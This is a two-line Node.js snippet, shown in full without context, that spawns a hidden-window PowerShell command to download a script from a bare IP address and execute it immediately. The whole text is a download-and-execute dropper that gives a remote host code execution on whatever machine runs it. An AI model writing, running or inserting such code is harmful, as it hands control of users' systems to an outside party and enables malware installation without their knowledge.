const { exec } = require('child_process');
exec(`powershell -w hidden -c "iex (New-Object Net.WebClient).DownloadString('http://198.18.7.7/a')"`);
